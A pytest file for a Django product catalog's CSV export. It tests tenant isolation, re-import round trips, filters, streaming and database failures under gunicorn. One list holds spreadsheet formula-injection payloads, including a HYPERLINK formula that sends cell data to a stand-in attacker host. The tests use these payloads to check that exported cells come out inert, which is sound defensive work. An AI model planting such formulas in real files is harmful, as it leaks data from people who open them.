"""The CSV export of products through HTTP: the tenant's rows only, streamed from a server-side
cursor after the request's transaction, re-importable, and filtered like the list; and, against a
real gunicorn and PostgreSQL, what the client gets when the database fails before the first byte
(a 503 problem) or in the middle of the file (a transfer that never completes)."""

import csv
import io
import time
import uuid
from collections.abc import Callable, Iterator
from concurrent.futures import ThreadPoolExecutor
from decimal import Decimal
from pathlib import Path

import httpx
import psycopg
import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.db import connection
from django.http import StreamingHttpResponse
from rest_framework.test import APIClient

from catalog.imports import COLUMNS
from catalog.models import Product
from kernel.context import tenant_context
from tests.catalog_helpers import (
    client_without_catalog_read,
    editor_client,
    make_category,
    make_product,
    viewer_client,
)
from tests.factories import DEFAULT_PASSWORD, make_tenant
from tests.fixtures.servers import (
    LiveServer,
    live_database_url,
    server_environment,
    start_live_wsgi_server,
)
from tests.helpers import API, assert_problem, outcome, owner_of, tasks_run_inline

pytestmark = [pytest.mark.django_db, pytest.mark.tenant(plan_code="pro")]

EXPORT = f"{API}/products/export/"
IMPORT = f"{API}/products/import/"


def export_rows(client: APIClient, **params) -> list[dict[str, str]]:
    response = client.get(EXPORT, params)
    assert response.status_code == 200, response.content
    assert isinstance(response, StreamingHttpResponse)
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"].startswith('attachment; filename="products-')
    text = b"".join(response.streaming_content).decode()
    reader = csv.reader(io.StringIO(text))
    assert next(reader) == list(COLUMNS)
    return [dict(zip(COLUMNS, record, strict=True)) for record in reader]


def seed_products(tenant, prefix: str, count: int) -> None:
    """Many products at once, for the tests that need more rows than one chunk."""
    with tenant_context(tenant.id):
        Product.objects.bulk_create(
            Product(sku=f"SKU-{n:04d}", name=f"{prefix} {n}", price=Decimal("1.00"), currency="EUR")
            for n in range(count)
        )


def test_export_streams_the_tenants_products_as_csv(tenant):
    category = make_category(tenant)
    make_product(
        tenant,
        sku="B-2",
        name='Café ☕ 東京, "quoted"',
        description="Line one\nline two",
        price="19.99",
        currency="USD",
        stock=3,
        category=category,
        tags=["summer", "cotton"],
        attributes={"color": "blue", "sizes": ["S", "M"]},
    )
    make_product(tenant, sku="A-1", name="Plain", price="5.00", is_active=False)
    make_product(make_tenant(plan_code="pro"), sku="OTHER-1", name="Someone else's")

    rows = export_rows(viewer_client(tenant))

    assert [row["sku"] for row in rows] == ["A-1", "B-2"]  # by SKU unless ordered otherwise
    assert rows[0] == {
        "sku": "A-1",
        "name": "Plain",
        "description": "",
        "price": "5.00",
        "currency": "EUR",
        "stock": "10",
        "is_active": "false",
        "category": "",
        "tags": "",
        "attributes": "",
    }
    assert rows[1] == {
        "sku": "B-2",
        "name": 'Café ☕ 東京, "quoted"',
        "description": "Line one\nline two",
        "price": "19.99",
        "currency": "USD",
        "stock": "3",
        "is_active": "true",
        "category": str(category.id),
        "tags": "summer;cotton",
        "attributes": '{"color":"blue","sizes":["S","M"]}',
    }


def test_an_export_imports_back_unchanged(tenant, django_capture_on_commit_callbacks):
    parent = make_category(tenant)
    child = make_category(tenant, parent=parent)
    make_product(
        tenant,
        sku="R-1",
        name="Ünïcödé, with comma",
        description='  "Quoted"\r\nand spaced  ',
        price="0.00",
        currency="JPY",
        stock=0,
        is_active=False,
        category=child,
        tags=["a b", "c"],
        attributes={"nested": {"deep": [1, 2.5, True, None]}, "text": "東京"},
    )
    make_product(tenant, sku="R-2", name="Plain", price="12.34")
    editor = editor_client(tenant)
    before = export_rows(editor)
    exported = editor.get(EXPORT)
    content = b"".join(exported.streaming_content)

    with tasks_run_inline(), django_capture_on_commit_callbacks(execute=True):
        response = editor.post(
            IMPORT,
            {"file": SimpleUploadedFile("export.csv", content, content_type="text/csv")},
            format="multipart",
        )
    job = editor.get(response["Location"]).json()

    assert (job["status"], job["succeeded"], job["failed"]) == ("succeeded", 2, 0)
    assert export_rows(editor) == before
    with outcome():
        versions = set(Product.objects.filter(tenant=tenant).values_list("version", flat=True))
    assert versions == {2}  # each row was written again, as the same values


FORMULAS = [
    '=HYPERLINK("https://evil.example/?d="&A1,"Click")',
    "+1+1",
    "-2+3",
    "@SUM(A1)",
    "\tTabbed",
    "\rReturned",
    "'=already quoted",
    "'plain quote",
]


def test_cells_a_spreadsheet_would_run_are_exported_inert_and_import_back_unchanged(
    tenant, django_capture_on_commit_callbacks
):
    # Names, descriptions and tags that a spreadsheet would read as formulas (names and tags
    # are trimmed on the way in, descriptions are kept as written)
    for n, text in enumerate(FORMULAS):
        make_product(tenant, sku=f"F-{n}", name=text.strip(), description=text, tags=[text.strip()])
    editor = editor_client(tenant)
    exported = editor.get(EXPORT)
    content = b"".join(exported.streaming_content)

    # Then no cell of the file starts a formula: each such value is behind a '
    rows = list(csv.reader(io.StringIO(content.decode())))
    for row in rows[1:]:
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), row
    names = {row[COLUMNS.index("name")] for row in rows[1:]}
    assert '\'=HYPERLINK("https://evil.example/?d="&A1,"Click")' in names
    assert "''=already quoted" in names
    assert "'plain quote" in names

    # And the file imports back to the very same values
    before = export_rows(editor)
    with tasks_run_inline(), django_capture_on_commit_callbacks(execute=True):
        response = editor.post(
            IMPORT,
            {"file": SimpleUploadedFile("export.csv", content, content_type="text/csv")},
            format="multipart",
        )
    job = editor.get(response["Location"]).json()
    assert (job["status"], job["succeeded"], job["failed"]) == ("succeeded", len(FORMULAS), 0)
    assert export_rows(editor) == before
    with outcome():
        stored = dict(Product.objects.filter(tenant=tenant).values_list("sku", "description"))
    assert stored == {f"F-{n}": text for n, text in enumerate(FORMULAS)}


def test_export_honours_the_list_filters(tenant):
    shoes = make_category(tenant)
    boots = make_category(tenant, parent=shoes)
    hats = make_category(tenant)
    make_product(tenant, sku="S-1", name="Shoe", category=shoes, tags=["sale"])
    make_product(tenant, sku="S-2", name="Boot", category=boots, is_active=False)
    make_product(tenant, sku="H-1", name="Hat", category=hats, tags=["sale"], stock=0)
    client = viewer_client(tenant)

    def skus(**params) -> list[str]:
        return [row["sku"] for row in export_rows(client, **params)]

    assert skus(category=str(shoes.id)) == ["S-1", "S-2"]  # descendants included
    assert skus(is_active="false") == ["S-2"]
    assert skus(tag="sale") == ["H-1", "S-1"]
    assert skus(in_stock="false") == ["H-1"]
    assert skus(search="boot") == ["S-2"]
    assert skus(ordering="-sku") == ["S-2", "S-1", "H-1"]
    assert_problem(client.get(EXPORT, {"is_active": "maybe"}), 400, "validation-error")
    assert_problem(client.get(EXPORT, {"ordering": "stock"}), 400, "validation-error")


def test_export_needs_credentials_and_catalog_read(tenant):
    assert_problem(APIClient().get(EXPORT), 401, "not-authenticated")
    assert_problem(client_without_catalog_read(tenant).get(EXPORT), 403, "permission-denied")


def test_export_answers_a_client_that_asks_for_csv(tenant):
    make_product(tenant, sku="C-1")

    response = viewer_client(tenant).get(EXPORT, HTTP_ACCEPT="text/csv")

    assert response.status_code == 200
    assert b"C-1" in b"".join(response.streaming_content)


@pytest.mark.django_db(transaction=True)
def test_an_export_longer_than_a_chunk_streams_after_the_request_and_shows_no_foreign_rows(
    settings,
):
    # Committed rows and real transactions: the stream runs after the request's transaction has
    # committed and the request has left its tenant, from a server-side cursor that fetches 50
    # rows at a time. Both tenants use the same SKUs.
    settings.CATALOG_EXPORT_CHUNK_SIZE = 50
    mine, theirs = make_tenant(plan_code="pro"), make_tenant(plan_code="pro")
    seed_products(mine, "Mine", 180)
    seed_products(theirs, "Theirs", 120)

    response = viewer_client(mine).get(EXPORT)
    assert response.status_code == 200
    chunks = list(response.streaming_content)  # the first chunk was read before; the rest now
    rows = list(csv.DictReader(io.StringIO(b"".join(chunks).decode())))

    assert len(rows) == 180
    assert {row["name"].split()[0] for row in rows} == {"Mine"}
    assert [row["sku"] for row in rows] == [f"SKU-{n:04d}" for n in range(180)]
    theirs_rows = list(
        csv.DictReader(
            io.StringIO(b"".join(viewer_client(theirs).get(EXPORT).streaming_content).decode())
        )
    )
    assert len(theirs_rows) == 120
    assert {row["name"].split()[0] for row in theirs_rows} == {"Theirs"}


@pytest.mark.django_db(transaction=True)
def test_a_client_leaving_mid_export_ends_its_transaction(settings):
    settings.CATALOG_EXPORT_CHUNK_SIZE = 50
    tenant = make_tenant(plan_code="pro")
    # Enough text that the stream sends several chunks.
    with tenant_context(tenant.id):
        Product.objects.bulk_create(
            Product(sku=f"L-{n:04d}", name="x" * 200, price=Decimal("1.00"), currency="EUR")
            for n in range(600)
        )
    client = viewer_client(tenant)

    response = client.get(EXPORT)
    stream = iter(response.streaming_content)
    first = next(stream)
    assert first.startswith(b"sku,name,")
    response.close()  # what the server does when the client disconnects

    assert not connection.in_atomic_block
    # The connection is usable, and the next request sees everything.
    assert len(export_rows(client)) == 600


# --- failures of the database, through gunicorn -------------------------------------------------
# The API is served by gunicorn (docs/serving.md): what a client sees when the export fails is
# what gunicorn makes of it. The failure is real: the server's PostgreSQL session is terminated,
# as a restart or a failover does, from a superuser session of the test.

WAIT_SECONDS = 20.0
# Enough text that the server is still producing the file when the client stops reading.
LONG_DESCRIPTION = "d" * 8000


@pytest.fixture
def gunicorn_export(
    transactional_db, tmp_path: Path
) -> Iterator[Callable[..., tuple[LiveServer, str]]]:
    """`start(**env)` runs the application under gunicorn (one sync worker, as deployed) on the
    test database, its sessions named apart; it returns the server and that name."""
    started: list[LiveServer] = []

    def start(**env: str) -> tuple[LiveServer, str]:
        application_name = f"export-drill-{uuid.uuid4().hex[:8]}"
        environment = server_environment(
            DATABASE_URL=f"{live_database_url()}?application_name={application_name}", **env
        )
        server = start_live_wsgi_server(tmp_path, environment)
        started.append(server)
        return server, application_name

    yield start
    for server in started:
        server.stop()


def signed_in_http(server: LiveServer, tenant) -> httpx.Client:
    http = httpx.Client(base_url=server.url, timeout=WAIT_SECONDS)
    response = http.post(
        f"{API}/auth/token/",
        json={"email": owner_of(tenant).email, "password": DEFAULT_PASSWORD, "tenant": tenant.slug},
    )
    assert response.status_code == 200, response.text
    http.headers["Authorization"] = f"Bearer {response.json()['access']}"
    return http


def sessions(application_name: str, *, state: str = "%", wait_event_type: str = "%") -> int:
    """The server's sessions in that state, waiting on that kind of event (LIKE patterns)."""
    with psycopg.connect(live_database_url(), autocommit=True) as admin:
        (count,) = admin.execute(
            "SELECT count(*) FROM pg_stat_activity WHERE datname = current_database()"
            " AND application_name = %s AND state LIKE %s"
            " AND coalesce(wait_event_type, '') LIKE %s",
            [application_name, state, wait_event_type],
        ).fetchone()
    return count


def terminate_sessions(application_name: str) -> int:
    with psycopg.connect(live_database_url(), autocommit=True) as admin:
        rows = admin.execute(
            "SELECT pg_terminate_backend(pid) FROM pg_stat_activity"
            " WHERE datname = current_database() AND application_name = %s",
            [application_name],
        ).fetchall()
    return sum(1 for (terminated,) in rows if terminated)


def eventually(check: Callable[[], bool], what: str) -> None:
    deadline = time.monotonic() + WAIT_SECONDS
    while not check():
        if time.monotonic() > deadline:
            pytest.fail(f"Waited {WAIT_SECONDS:.0f}s for {what}")
        time.sleep(0.05)


def test_a_database_failure_before_the_first_byte_is_a_503_problem(gunicorn_export):
    tenant = make_tenant(plan_code="pro")
    seed_products(tenant, "Row", 30)
    server, application_name = gunicorn_export()
    http = signed_in_http(server, tenant)

    # Given the products table locked, so that the export's first query waits on it
    with (
        psycopg.connect(live_database_url()) as blocker,
        ThreadPoolExecutor(max_workers=1) as pool,
    ):
        blocker.execute(f'LOCK TABLE "{Product._meta.db_table}" IN ACCESS EXCLUSIVE MODE')
        in_flight = pool.submit(http.get, EXPORT)
        eventually(
            lambda: sessions(application_name, wait_event_type="Lock") > 0,
            "the export's first query to wait on the lock",
        )
        # When the server's session dies under that query
        assert terminate_sessions(application_name) >= 1
        blocker.rollback()
        response = in_flight.result()

    # Then the client gets a problem it can retry, not a 200 with a short (or empty) file
    assert response.status_code == 503, response.text
    assert response.headers["Content-Type"] == "application/problem+json"
    assert response.json()["type"].endswith("/service-unavailable")
    assert response.headers["Retry-After"] == "1"
    assert "Content-Disposition" not in response.headers
    # ...and the same process serves the next export whole, on a new session
    again = http.get(EXPORT)
    assert again.status_code == 200, again.text
    assert len(list(csv.DictReader(io.StringIO(again.text)))) == 30


def test_a_database_failure_mid_stream_leaves_the_transfer_visibly_unfinished(gunicorn_export):
    tenant = make_tenant(plan_code="pro")
    with tenant_context(tenant.id):
        Product.objects.bulk_create(
            Product(
                sku=f"M-{n:04d}",
                name="Long",
                description=LONG_DESCRIPTION,
                price=Decimal("1.00"),
                currency="EUR",
            )
            for n in range(3000)
        )
    server, application_name = gunicorn_export(CATALOG_EXPORT_CHUNK_SIZE="20")
    http = signed_in_http(server, tenant)

    with http.stream("GET", EXPORT) as response:
        # Given an export that has begun: a 200, chunked, its first bytes received
        assert response.status_code == 200
        assert response.headers["Transfer-Encoding"] == "chunked"
        body = response.iter_bytes()
        received = [next(body)]
        assert received[0].startswith(b"sku,name,")
        # When the server's session dies while the rest of the file is being read
        eventually(
            lambda: sessions(application_name, state="idle in transaction") > 0,
            "the stream to wait between two fetches",
        )
        assert terminate_sessions(application_name) >= 1
        # Then the transfer never completes: the server cuts the connection without the final
        # chunk, which no client mistakes for the end of the file
        with pytest.raises(httpx.RemoteProtocolError, match="incomplete chunked read"):
            received.extend(body)
    assert 0 < b"".join(received).count(b"\nM-") < 3000
    assert "Error handling request" in server.log()
    # ...and the server answers the next request
    assert http.get(f"{API}/products/").status_code == 200
